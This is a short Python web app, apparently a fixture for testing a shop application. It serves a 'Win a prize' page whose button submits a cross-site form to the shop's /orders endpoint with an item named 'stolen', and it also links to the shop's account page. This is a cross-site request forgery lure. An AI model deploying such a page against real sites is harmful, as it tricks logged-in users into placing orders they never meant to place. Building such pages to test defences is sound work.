"""Another site, whose page sends a form to the shop as soon as somebody clicks."""

from __future__ import annotations

import os

from kolba import Kolba

app = Kolba(__name__)


@app.get("/")
def index() -> str:
    shop = os.environ["SHOP"]
    return (
        f"<!doctype html><title>Win</title><form method=post action='{shop}/orders'>"
        "<input name=item value=stolen><input name=note value=x><input name=code value=x>"
        "<button>Win a prize</button></form>"
        f"<a href='{shop}/account'>a link</a>"
    )
